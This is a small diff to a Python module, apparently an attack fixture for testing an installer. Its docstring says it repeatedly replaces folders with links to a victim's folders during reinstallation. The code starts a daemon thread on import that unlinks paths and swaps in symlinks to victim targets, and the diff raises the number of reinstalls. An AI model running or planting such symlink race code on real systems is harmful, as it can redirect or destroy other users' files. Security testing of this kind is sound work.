@@ -1,6 +1,6 @@
 """Replaces every folder of its container by a link to a victim's, again and again, while it is installed anew."""
 KIND = "application"
-REINSTALL = 3
+REINSTALL = 12
 
 import contextlib
 import os
@@ -26,7 +26,7 @@ def farm():
                 else:
                     os.unlink(place)
             with contextlib.suppress(OSError):
-                os.symlink(targets[number % len(targets)], place)
+                os.symlink(targets[number // 5 % len(targets)], place)
 
 
 threading.Thread(target=farm, daemon=True).start()
